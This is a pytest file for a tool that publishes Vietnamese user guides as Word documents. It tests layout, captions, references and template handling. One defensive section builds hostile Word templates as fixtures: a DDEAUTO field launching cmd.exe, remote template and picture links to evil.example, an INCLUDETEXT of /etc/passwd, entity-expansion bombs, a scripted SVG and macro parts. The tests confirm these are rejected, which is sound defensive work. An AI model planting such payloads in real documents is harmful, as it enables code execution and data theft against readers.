"""Word: what an office gets, opens, numbers anew and restyles."""

import io
import random
import re
import shutil
import subprocess
import zipfile

import docx
import pytest
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml.ns import qn
from docx.shared import Mm, Pt
from PIL import Image
from pypdf import PdfReader

from guidebook.errors import PublishError
from guidebook.model import Sentence
from guidebook.publish.docx_template import docx_bytes, open_template
from guidebook.publish.translation import translator_into
from tests.guides import (
    DRAFT_WARNING,
    MARKS,
    NEVER_RUN,
    NOTE,
    act,
    figure,
    guide,
    half_failed,
    ordinary,
    printed,
    section,
    shown,
)

TABLE = (("ô", "nội dung"), ("ô [Họ tên]", "họ tên"), ("ô [Ngày sinh]", "ngày sinh"))


@pytest.fixture
def written(tmp_path):
    """The file that a record makes."""

    def write(record, **more):
        return printed(record, tmp_path, ("docx",), **more) / "guide.docx"

    return write


def styled(document, style):
    """The texts of all paragraphs of a style."""
    return [paragraph.text for paragraph in document.paragraphs if paragraph.style.name == style]


def fields(document):
    """The codes of all fields."""
    return [field.get(qn("w:instr")).strip() for field in document.element.body.iter(qn("w:fldSimple"))]


def bookmarks(document):
    """The names of all places that can be led to."""
    return [mark.get(qn("w:name")) for mark in document.element.body.iter(qn("w:bookmarkStart"))]


def rich():
    """All that a guide can have: table, note, list, references, address, legend."""
    table = Sentence("Khi", "when", "nhập các thông tin:", 9, table=TABLE, passed=True)
    return guide(
        section(
            shown(figure(marks=MARKS)),
            table,
            NOTE,
            act("truy cập https://a.vn/b, xem Hình 1 và mục 1, Bước 2"),
            act("nhấn nút [Đăng ký]", "nút [Đăng ký]"),
        ),
        section(act('gõ "quang"'), title="Bước 2: Đăng nhập"),
        description="- một\n- hai\n\nRồi:\n\n1. ba\n2. bốn\n\nvà:\n\n1. năm",
    )


def test_the_page_is_that_of_the_decree(written):
    """A4, margins 20/20/30/15 mm, Times New Roman 14, lines in by 1.27 cm, 6 pt between them, justified."""
    document = docx.Document(written(ordinary()))
    page = document.sections[0]
    margins = (page.top_margin, page.bottom_margin, page.left_margin, page.right_margin)
    assert [round(length.mm) for length in (page.page_width, page.page_height, *margins)] == [210, 297, 20, 20, 30, 15]
    body = document.styles["Body Text"].paragraph_format
    assert (round(body.first_line_indent.cm, 2), body.space_after.pt, body.alignment) == (1.27, 6, 3)
    (default,) = document.styles.element.iterfind(f"{qn('w:docDefaults')}/{qn('w:rPrDefault')}/{qn('w:rPr')}")
    assert default.find(qn("w:rFonts")).get(qn("w:hAnsi")) == "Times New Roman"
    assert default.find(qn("w:sz")).get(qn("w:val")) == "28"


def test_pages_are_numbered_from_the_second(written):
    """In the top margin, centred; the first page has a header of its own, which is empty."""
    page = docx.Document(written(ordinary())).sections[0]
    assert page.different_first_page_header_footer
    assert [paragraph.text for paragraph in page.first_page_header.paragraphs] == [""]
    (number,) = page.header._element.iter(qn("w:fldSimple"))
    assert number.get(qn("w:instr")).strip() == "PAGE"
    assert page.header.paragraphs[0].style.paragraph_format.alignment == 1


def test_headings_are_headings(written):
    """The navigation of Word and a table of contents see chapters and sections."""
    document = docx.Document(written(rich()))
    assert styled(document, "Title") == ["Hướng dẫn thử"]
    assert styled(document, "Subtitle") == ["(Kèm theo Công văn)"]
    assert styled(document, "Heading 1") == ["1. Đăng ký"]
    assert styled(document, "Heading 2") == ["Bước 1: Đăng ký", "Bước 2: Đăng nhập"]
    levels = [document.styles[f"Heading {n}"].element.pPr.find(qn("w:outlineLvl")).get(qn("w:val")) for n in (1, 2)]
    assert levels == ["0", "1"]


def test_captions_count_themselves(written):
    """A table of figures can be made of them, and a figure that the office adds moves the numbers."""
    document = docx.Document(written(ordinary()))
    captions = [p for p in document.paragraphs if p.style.name == "Caption"]
    assert [re.sub(r"\s", " ", p._p.xpath("string(.)")) for p in captions] == [
        "Hình 1. Biểu mẫu đăng ký",
        "Hình 2. Kết quả",
    ]
    assert [code for code in fields(document) if code.startswith("SEQ")] == ["SEQ Hình \\* ARABIC"] * 2


def test_every_reference_leads_somewhere(written):
    """A figure's follows its number; those to chapters, steps and callouts are links to places that are there."""
    document = docx.Document(written(rich()))
    led = [link.get(qn("w:anchor")) for link in document.element.body.iter(qn("w:hyperlink"))]
    named = {code.split()[1] for code in fields(document) if code.startswith("REF")}
    assert named == {"_hinh_bieu_mau"}
    assert "_muc_1_buoc_2" in led
    assert named | {anchor for anchor in led if anchor} <= set(bookmarks(document))
    assert len(bookmarks(document)) == len(set(bookmarks(document)))


def test_a_bookmark_is_one_that_word_allows(written):
    """Letters, digits and lines, at most 40, for the longest title too; two long ones stay two."""
    sections = [section(act("mở"), title=f"Trường hợp đã có tài khoản trên cả hai cổng {n}") for n in (1, 2)]
    names = bookmarks(docx.Document(written(guide(*sections, title="Liên kết"))))
    assert len(set(names)) == len(names) == 3
    assert all(re.fullmatch(r"_\w{1,39}", name, re.ASCII) for name in names)


def test_addresses_are_links(written):
    """Outside of the document, and their line isn't stretched."""
    document = docx.Document(written(rich()))
    (paragraph,) = [p for p in document.paragraphs if "https://a.vn/b" in p.text]
    assert [link.url for link in paragraph.hyperlinks if link.url] == ["https://a.vn/b"]
    assert paragraph.alignment == 0


def test_a_number_stands_beside_its_label(written):
    """Each in a style of its own; the number says aloud whose it is."""
    document = docx.Document(written(rich()))
    (paragraph,) = [p for p in document.paragraphs if p.text.startswith("Nhấn nút")]
    runs = {run.text.strip(): run.style.name for run in paragraph.runs}
    assert runs["Đăng ký"] == "Guide Label"
    (link,) = paragraph.hyperlinks
    assert (link.text.strip(), link.runs[0].style.name) == ("2", "Guide Number")
    assert link._hyperlink.get(qn("w:tooltip")) == "số 2 trong Hình 1"


def test_pictures_have_words_and_their_printed_size(written):
    """A whole screen is 151 mm wide; a part of 532 px is as much larger as on the PDF."""
    record = ordinary()
    document = docx.Document(written(record))
    assert [round(shape.width.mm) for shape in document.inline_shapes] == [151, round(532 * 0.153)]
    first = document.inline_shapes[0]._inline.docPr
    assert first.get("descr").startswith("Ảnh chụp màn hình: Biểu mẫu đăng ký.")
    assert "Số 1: ô “Họ tên *”" in first.get("descr")


def test_a_figure_stays_with_its_sentence_and_its_caption(written):
    """Sentence, picture and caption hold on to the next; a legend's lines to the caption."""
    document = docx.Document(written(rich()))
    at = next(n for n, p in enumerate(document.paragraphs) if p.style.name == "Guide Figure")
    sentence, picture, caption, legend = document.paragraphs[at - 1 : at + 3]
    assert sentence.paragraph_format.keep_with_next
    assert picture.style.paragraph_format.keep_with_next
    assert caption.paragraph_format.keep_with_next
    assert (legend.style.name, legend.text.split(None, 1)) == ("Guide Legend", ["1", "Viết có dấu."])


def test_a_table_repeats_its_header(written):
    """On each page that it reaches; a row isn't torn in two."""
    document = docx.Document(written(rich()))
    (table,) = document.tables
    assert [[cell.text.split("\u00a0")[0] for cell in row.cells] for row in table.rows] == [
        ["Ô", "Nội dung"],
        ["ô Họ tên", "họ tên"],
        ["ô Ngày sinh", "ngày sinh"],
    ]
    headers = [row._tr.trPr.find(qn("w:tblHeader")) is not None for row in table.rows]
    assert headers == [True, False, False]
    assert all(row._tr.trPr.find(qn("w:cantSplit")) is not None for row in table.rows)


def test_a_note_is_set_apart(written):
    """In a style of its own, its word first."""
    document = docx.Document(written(rich()))
    assert "Lưu ý: Mã có hiệu lực 2 phút." in styled(document, "Guide Note")


def test_lists_begin_anew(written):
    """Dashes and numbers are Word's own; two numbered lists don't count on."""
    document = docx.Document(written(rich()))
    assert styled(document, "List Bullet") == ["một", "hai"]
    numbered = [p for p in document.paragraphs if p.style.name == "List Number"]
    lists = [p._p.pPr.numPr.numId.val for p in numbered]
    assert lists[0] == lists[1] != lists[2]
    starts = document.part.numbering_part.element.num_having_numId(lists[2]).lvlOverride_lst
    assert starts[0].startOverride.val == 1


def test_the_file_names_nobody(written):
    """Title and language, no author; not who made the library either."""
    path = written(ordinary())
    about = docx.Document(path).core_properties
    assert (about.title, about.author, about.last_modified_by, about.comments) == ("Hướng dẫn thử", "", "", "")
    languages = docx.Document(path).styles["Normal"].element.rPr.find(qn("w:lang"))
    assert languages.get(qn("w:val")) == "vi-VN"
    with zipfile.ZipFile(path) as file:
        assert [name for name in file.namelist() if name.endswith((".jpeg", "app.xml"))] == []


def test_labels_keep_their_language(written, tmp_path):
    """In another edition the document is in that one, and the screen's words are Vietnamese still."""
    (tmp_path / "en.po").write_text('msgid "Hình"\nmsgstr "Figure"\n', encoding="utf-8")
    record = guide(section(shown(figure()), act("nhấn nút [Đăng ký]", "nút [Đăng ký]")))
    written(record, translate=translator_into("en", tmp_path))
    document = docx.Document(tmp_path / "guide" / "en" / "guide.docx")
    assert document.styles["Normal"].element.rPr.find(qn("w:lang")).get(qn("w:val")) == "en-US"
    (label,) = [run for p in document.paragraphs for run in p.runs if run.style.name == "Guide Label"]
    assert label._r.rPr.find(qn("w:lang")).get(qn("w:val")) == "vi-VN"
    assert "SEQ Figure \\* ARABIC" in fields(document)


def test_one_record_makes_one_file(written):
    """Whenever it is written: to the byte."""
    assert written(rich()).read_bytes() == written(rich()).read_bytes()


def test_a_draft_says_what_is_not_proven(written):
    """First of all how much of it, then each such sentence; what was proven says nothing."""
    document = docx.Document(written(half_failed(), draft=True))
    assert styled(document, "Guide Note")[0] == DRAFT_WARNING
    assert styled(document, "Body Text") == ["Mở trang.", "Nhấn nút. (không đạt)", *NEVER_RUN]
    verdicts = [run.text for one in document.paragraphs for run in one.runs if run.style.name == "Guide Verdict"]
    assert verdicts == ["(không đạt)", "(chưa chạy)"]
    assert "_hinh_ket_qua" in bookmarks(document)


# --- a template -------------------------------------------------------------------------------------------


@pytest.fixture
def template(tmp_path):
    """An office's file as a Vietnamese Word writes it: its own ids, a margin, a text and a picture."""
    document = docx.Document()
    page = document.sections[0]
    page.page_width, page.left_margin, page.right_margin = Mm(210), Mm(50), Mm(40)
    page.header.paragraphs[0].text = "UBND TỈNH"
    document.styles["Heading 1"].font.size = Pt(20)
    normal = document.styles["Normal"].element
    for tie in document.styles.element.xpath("w:style/*[self::w:basedOn or self::w:next or self::w:link]"):
        tie.set(qn("w:val"), "Binhthng" if tie.get(qn("w:val")) == normal.styleId else tie.get(qn("w:val")))
    normal.set(qn("w:styleId"), "Binhthng")
    picture = io.BytesIO()
    Image.new("RGB", (9, 9)).save(picture, "PNG")
    document.add_paragraph("chữ của cơ quan")
    document.add_picture(picture)
    document.save(tmp_path / "mau.docx")
    return tmp_path / "mau.docx"


def test_a_template_restyles_the_guide(written, template):
    """Its styles, page and header win; its text and pictures are gone."""
    path = written(ordinary(), template=template)
    document = docx.Document(path)
    assert document.styles["Heading 1"].font.size == Pt(20)
    page = document.sections[0]
    assert (round(page.left_margin.mm), page.header.paragraphs[0].text) == (50, "UBND TỈNH")
    assert "chữ của cơ quan" not in [paragraph.text for paragraph in document.paragraphs]
    with zipfile.ZipFile(path) as file:
        assert sum(name.startswith("word/media/") for name in file.namelist()) == len(ordinary().figures)


def test_what_a_template_lacks_is_added(written, template):
    """Based on the template's own styles, by their ids there, and of their size."""
    document = docx.Document(written(rich(), template=template))
    assert document.styles["Guide Note"].base_style.name == "Normal"
    assert document.styles["Guide Label"].font.bold
    assert document.styles["Guide Cell"].font.size is None
    ids = {style.style_id for style in document.styles}
    ties = {style.element.basedOn_val for style in document.styles if style.type == WD_STYLE_TYPE.PARAGRAPH}
    assert ties - {None} <= ids


def test_a_picture_fits_the_page_of_a_template(written, template):
    """120 mm are left between its margins."""
    document = docx.Document(written(ordinary(), template=template))
    assert round(document.inline_shapes[0].width.mm) == 120


def test_the_guide_is_a_template_for_itself(written, tmp_path):
    """Made from the guide that was printed before, it is the same again: nothing piles up."""
    first = shutil.copy(written(rich()), tmp_path / "first.docx")
    again = docx.Document(written(rich(), template=first))
    before = docx.Document(first)
    assert again.element.body.xml == before.element.body.xml
    assert again.styles.element.xml == before.styles.element.xml


@pytest.mark.parametrize("content", [b"", b"xin ch\xc3\xa0o", b"PK\x03\x04"])
def test_a_template_that_is_no_word_file_is_told(written, tmp_path, content):
    """In a sentence; what was published stays."""
    before = written(ordinary()).read_bytes()
    (tmp_path / "mau.docx").write_bytes(content)
    with pytest.raises(PublishError, match=r"mau\.docx is not a Word document"):
        written(ordinary(), template=tmp_path / "mau.docx")
    assert (tmp_path / "guide" / "guide.docx").read_bytes() == before


def test_a_broken_template_is_told_whatever_is_broken(tmp_path):
    """Cut off, bits flipped, a part of it lost, or no Word's XML any more: a sentence, or it can be written into."""
    whole = docx_bytes(open_template(None, "vi"))
    template = tmp_path / "mau.docx"
    for broken in broken_files(whole):
        template.write_bytes(broken)
        try:
            document = open_template(template, "vi")
        except PublishError as error:
            assert "is not a Word document, or a broken one" in str(error)
        else:
            document.core_properties.title = "Hướng dẫn"
            document.add_paragraph("Một", style="List Number")
            assert docx_bytes(document)


def broken_files(whole):
    """A Word file as a disk, a mail or a tool may leave it."""
    chance = random.Random(1)
    for _ in range(15):
        at = chance.randrange(len(whole))
        yield whole[:at]
        yield whole[:at] + bytes([whole[at] ^ 1 << chance.randrange(8)]) + whole[at + 1 :]
    parts = zipfile.ZipFile(io.BytesIO(whole))
    for name in parts.namelist():
        for content in (None, b"", b"<x/>", parts.read(name)[:-20]):
            yield zipped({one: content if one == name else parts.read(one) for one in parts.namelist()})


def zipped(files):
    """A zip of those files; one without contents is left out."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            if content is not None:
                archive.writestr(name, content)
    return buffer.getvalue()


# --- a template that came from elsewhere -------------------------------------------------------------------

ELSEWHERE = "http://evil.example/x"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


@pytest.fixture
def office_file(template):
    """The files in an office's template that has a header of its own."""
    document = docx.Document(template)
    document.sections[0].header.paragraphs[0].text = "SỞ THÔNG TIN"
    document.sections[0].header.paragraphs[0].add_run().add_picture(picture())
    document.save(template)
    parts = zipfile.ZipFile(template)
    return {name: parts.read(name) for name in parts.namelist()}


def picture():
    """A crest, say."""
    png = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(png, "PNG")
    png.seek(0)
    return png


def related(files, part, kind, target, *, external=True):
    """``files`` whose ``part`` refers to one thing more."""
    folder, _, name = part.rpartition("/")
    rels = f"{folder}/_rels/{name}.rels"
    empty = f'<Relationships xmlns="{RELATIONS}"></Relationships>'.encode()
    mode = ' TargetMode="External"' if external else ""
    one = f'<Relationship Id="rId99" Type="{RELATION}/{kind}" Target="{target}"{mode}/></Relationships>'.encode()
    return files | {rels: files.get(rels, empty).replace(b"</Relationships>", one)}


def in_header(files, xml):
    """``files`` whose header has ``xml`` in it."""
    written = files["word/header1.xml"].decode()
    return files | {"word/header1.xml": written.replace("</w:p>", f"<w:r>{xml}</w:r></w:p>", 1).encode()}


def field(*pieces):
    """A field, its code in pieces."""
    codes = "".join(f"<w:instrText>{piece}</w:instrText>" for piece in pieces)
    return f'<w:fldChar w:fldCharType="begin"/>{codes}<w:fldChar w:fldCharType="end"/>'


HOSTILE = {
    "attached template": lambda files: related(files, "word/settings.xml", "attachedTemplate", ELSEWHERE),
    "mail merge": lambda files: related(files, "word/settings.xml", "mailMergeSource", "file:///C:/people.odc"),
    "linked picture": lambda files: related(files, "word/header1.xml", "image", ELSEWHERE),
    "link": lambda files: related(files, "word/header1.xml", "hyperlink", ELSEWHERE),
    "OLE": lambda files: related(files, "word/header1.xml", "oleObject", "../word/styles.xml", external=False),
    "OLE elsewhere": lambda files: related(files, "word/header1.xml", "oleObject", ELSEWHERE),
    "another document": lambda files: related(files, "word/header1.xml", "aFChunk", "styles.xml", external=False),
    "bullet": lambda files: related(files, "word/numbering.xml", "image", ELSEWHERE),
    "theme": lambda files: related(files, "word/theme/theme1.xml", "image", ELSEWHERE),
    "style": lambda files: related(files, "word/styles.xml", "image", "media/image1.png", external=False),
    "a drawing that is a page": lambda files: (
        related(files, "word/header1.xml", "image", "media/image9.svg", external=False)
        | {
            "word/media/image9.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>",
            "[Content_Types].xml": files["[Content_Types].xml"].replace(
                b"<Default ", b'<Default Extension="svg" ContentType="image/svg+xml"/><Default ', 1
            ),
        }
    ),
    "address of a shape": lambda files: in_header(
        files, f'<w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="{ELSEWHERE}"/></w:pict>'
    ),
    "share of a network": lambda files: in_header(
        files, r'<w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="\\evil.example\x"/></w:pict>'
    ),
    "picture that is fetched": lambda files: in_header(files, field(f' INCLUDEPICTURE "{ELSEWHERE}" \\d ')),
    "text that is fetched": lambda files: in_header(files, field("INC", "LUDETEXT", ' "/etc/passwd"')),
    "DDE": lambda files: in_header(files, field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')),
    "link by a field": lambda files: in_header(files, field(f'HYPERLINK "{ELSEWHERE}"')),
    "macro": lambda files: in_header(files, field("MACROBUTTON AutoOpen nhấn vào đây")),
    "field in a field": lambda files: in_header(
        files, field("PAGE").replace("</w:instrText>", f"</w:instrText>{field('QUOTE x')}", 1)
    ),
    "field without an end": lambda files: in_header(
        files, '<w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText>'
    ),
    "simple field": lambda files: in_header(files, "</w:r><w:fldSimple w:instr='IMPORT x'/><w:r>"),
    "entities": lambda files: files | {"word/header1.xml": laughing(files["word/header1.xml"])},
    "entities in a theme": lambda files: files | {"word/theme/theme1.xml": laughing(files["word/theme/theme1.xml"])},
    "file beside": lambda files: in_header(
        files, '<w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="../../secret.png"/></w:pict>'
    ),
    "search by a shape": lambda files: in_header(
        files, '<w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml" href="search-ms:query=x&amp;crumb=y"/></w:pict>'
    ),
    "too many elements": lambda files: files | {"word/styles.xml": b"<x>" + b"<a/>" * 1_000_001 + b"</x>"},
    "too many elements, called otherwise": lambda files: files | {"word/x.dat": b"<x>" + b"<a/>" * 1_000_001 + b"</x>"},
    "too many attributes": lambda files: files | {"word/x.xml": b"<x " + b'a="" ' * 1_000_001 + b"/>"},
    "too much": lambda files: files | {"word/media/more.bin": bytes(80 * 2**20)},
    "too many": lambda files: files | {f"word/media/{number}.bin": b"" for number in range(1001)},
}
"""What would be fetched, run or unpacked by whoever opens the guide, or prints it."""
LEFT = {
    "macros": ("vbaProject", "word/vbaProject.bin"),
    "data": ("customXml", "customXml/item1.xml"),
    "building blocks": ("glossaryDocument", "word/glossary/document.xml"),
    "a page of the web": ("webSettings", "word/webSettings2.xml"),
    "another document": ("aFChunk", "word/afchunk.html"),
}
"""What a part of it brings that the guide has no use for: kind, file."""


def laughing(xml):
    """``xml`` with entities that grow to gigabytes."""
    grow = "".join(f'<!ENTITY e{one} "{f"&e{one - 1};" * 10}">' for one in range(1, 12))
    declared = f'<!DOCTYPE x [<!ENTITY e0 "lol">{grow}]>'.encode()
    head, end, rest = xml.partition(b"?>")
    return head + end + declared + rest.replace(b"<w:p>", b"<w:p><w:r><w:t>&e11;</w:t></w:r>", 1)


def test_a_header_of_an_office_is_taken(written, template, office_file):
    """Its words and its picture; and nothing that the lists don't know comes along."""
    document = docx.Document(written(ordinary(), template=template))
    assert document.sections[0].header.paragraphs[0].text == "SỞ THÔNG TIN"
    brought = {relation.reltype.rpartition("/")[2] for relation in document.part.rels.values()}
    assert brought == {"styles", "numbering", "settings", "theme", "header", "image"}


@pytest.mark.slow
@pytest.mark.parametrize("what", HOSTILE)
def test_a82_what_a_template_would_fetch_run_or_unpack_is_told(template, office_file, what):
    """In a sentence that names the file, the part and what was found; at once, and without unpacking it."""
    template.write_bytes(zipped(HOSTILE[what](office_file)))
    expected = "unpacks to" if what.startswith("too ") else r"brings more than it may, in word/[\w/]+\.xml: "
    expected = "is not a Word document" if what == "entities" else expected  # their use is refused when it is read
    with pytest.raises(PublishError, match=rf"mau\.docx {expected}"):
        open_template(template, "vi")


@pytest.mark.slow
@pytest.mark.parametrize("what", LEFT)
@pytest.mark.parametrize("external", [False, True])
def test_a82_what_a_guide_has_no_use_for_stays_behind(written, template, office_file, what, external):
    """Of the document and of the file as a whole; those parts that it takes, and what is said of them, are listed."""
    kind, name = LEFT[what]
    target = ELSEWHERE if external else f"/{name}"
    hostile = related(office_file, "word/document.xml", kind, target, external=external)
    hostile = related(hostile, "", kind, target, external=external)
    hostile["[Content_Types].xml"] = hostile["[Content_Types].xml"].replace(
        b"<Default ", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        b'<Default Extension="html" ContentType="text/html"/><Default ', 1
    )  # fmt: skip
    template.write_bytes(zipped(hostile if external else hostile | {name: b"<x>evil</x>"}))
    parts = zipfile.ZipFile(written(ordinary(), template=template))
    taken = "document|styles|numbering|settings|theme/theme1|header1|_rels/(document|header1).xml"
    known = rf"_rels/.rels|\[Content_Types\].xml|docProps/core.xml|word/({taken})\.(xml|rels)|word/media/image\d+.png"
    assert [name for name in parts.namelist() if not re.fullmatch(known, name)] == []
    assert not any(b"evil" in parts.read(name) for name in parts.namelist())


def test_a82_settings_and_macros_of_a_template_stay_behind(template, office_file):
    """Sources of letters, variables and scripts; a file whose kind is one with macros is no .docx at all."""
    settings = office_file["word/settings.xml"].replace(
        b"</w:settings>",
        b'<w:docVars><w:docVar w:name="evil" w:val="x"/></w:docVars><w:attachedSchema w:val="evil"/></w:settings>',
    )
    template.write_bytes(zipped(office_file | {"word/settings.xml": settings}))
    assert b"evil" not in zipfile.ZipFile(io.BytesIO(docx_bytes(open_template(template, "vi")))).read(
        "word/settings.xml"
    )
    kinds = office_file["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    template.write_bytes(zipped(office_file | {"[Content_Types].xml": kinds}))
    with pytest.raises(PublishError, match="is not a Word document"):
        open_template(template, "vi")


def test_a_template_that_has_a_name_for_something_else_is_told(written, template):
    """A style of letters can't be that of a paragraph."""
    document = docx.Document(template)
    document.styles.add_style("Guide Note", WD_STYLE_TYPE.CHARACTER)
    document.save(template)
    with pytest.raises(PublishError, match="the style “Guide Note” for a character, the guide for a paragraph"):
        written(ordinary(), template=template)


# --- by another program -----------------------------------------------------------------------------------


@pytest.fixture
def office():
    """LibreOffice, where there is one."""
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if not found:
        pytest.skip("LibreOffice is not on this machine: whether another program opens the Word file is not tested.")
    return found


def by_libreoffice(office, path, folder):
    """The pages that LibreOffice prints of ``path``."""
    home = f"-env:UserInstallation={(folder / 'office').as_uri()}"
    call = [office, home, "--headless", "--convert-to", "pdf", "--outdir", str(folder), str(path)]
    subprocess.run(call, check=True, capture_output=True, timeout=120)
    return PdfReader(folder / "guide.pdf").pages


@pytest.mark.libreoffice
def test_libreoffice_prints_it(office, written, tmp_path):
    """Whole and with its numbers worked out anew: captions, references, pages."""
    pages = by_libreoffice(office, written(rich()), tmp_path)
    text = " ".join(" ".join(page.extract_text() for page in pages).replace("\u00a0", " ").split())
    assert "Hình 1. Biểu mẫu đăng ký" in text
    assert "xem Hình 1 và mục 1, Bước 2." in text
    assert "Error" not in text
    assert len({image.data for page in pages for image in page.images}) == 1
    assert pages[1].extract_text().split()[0] == "2"


@pytest.mark.libreoffice
def test_it_is_as_long_as_the_pdf(office, tmp_path, browser):
    """Give or take two pages; on none a picture has left its sentence or its caption."""
    shows = [sentence for n in range(8) for sentence in (act("nhấn nút, rồi đợi"), shown(figure(f"hinh-{n}")))]
    record = guide(section(*shows))
    files = printed(record, tmp_path, ("pdf", "docx"), browser=lambda: browser)
    pages = by_libreoffice(office, files / "guide.docx", tmp_path)
    assert abs(len(pages) - len(PdfReader(files / "guide.pdf").pages)) <= 2
    for page in pages:
        text = page.extract_text().replace("\u00a0", " ")
        led = {number for number in range(1, 9) if f"như Hình {number}." in text}
        assert {number for number in range(1, 9) if f"Hình {number}. Biểu mẫu" in text} == led
